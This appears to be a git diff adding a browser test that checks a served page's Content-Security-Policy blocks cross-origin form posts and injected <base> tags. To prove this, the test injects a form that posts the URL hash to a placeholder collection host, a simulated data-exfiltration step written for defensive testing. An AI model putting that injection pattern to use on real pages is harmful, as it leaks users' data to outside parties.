@@ -1,5 +1,5 @@
-// The page at its edges (issue 37): a key of a megabyte, checked off the page's thread. Each
-// case asserts what the page does, not how long it took.
+// The page at its edges (issue 37): a key of a megabyte, checked off the page's thread; the
+// served page's CSP on forms and <base>. Each case asserts what the page does, not how long it took.
 import assert from 'node:assert/strict';
 import path from 'node:path';
 import { after, before, test } from 'node:test';
@@ -80,5 +80,46 @@ test('a key of a megabyte pasted into the key editor: the page answers, checks i
   await fillKey(page, 'long(ts) + id');
   await page.waitForFunction(() => document.getElementById('key-note').hidden);
   assert.deepEqual(problems, []);
+  await page.close();
+});
+
+test("the served page's CSP: forms post nowhere, and no <base> moves its URLs", async () => {
+  const html = await (await fetch(server.url)).text();
+  const csp = /<meta http-equiv="Content-Security-Policy" content="([^"]*)"/.exec(html)?.[1] ?? '';
+  const directives = Object.fromEntries(
+    csp
+      .split(';')
+      .map(d => d.trim().split(/\s+/))
+      .map(([k, ...v]) => [k, v]),
+  );
+  assert.deepEqual(directives['form-action'], ["'none'"], csp);
+  assert.deepEqual(directives['base-uri'], ["'none'"], csp);
+  const { page } = await openPage(browser, server.url);
+  await page.goto(server.url);
+  await waitDone(page);
+  const url = page.url();
+  // a form posted to another origin, and a <base> pointing there: both refused by the browser
+  const refused = await page.evaluate(
+    () =>
+      new Promise(resolve => {
+        const seen = [];
+        document.addEventListener('securitypolicyviolation', e => {
+          seen.push(e.effectiveDirective);
+          if (seen.length === 2) resolve(seen.sort());
+        });
+        const base = document.createElement('base');
+        base.href = 'http://example.invalid/';
+        document.head.append(base);
+        const form = document.createElement('form');
+        form.method = 'post';
+        form.action = 'http://example.invalid/collect';
+        form.append(Object.assign(document.createElement('input'), { name: 'd', value: location.hash }));
+        document.body.append(form);
+        form.submit();
+        setTimeout(() => resolve(seen.sort()), 3000);
+      }),
+  );
+  assert.deepEqual(refused, ['base-uri', 'form-action']);
+  assert.equal(page.url(), url, 'the page stayed');
   await page.close();
 });
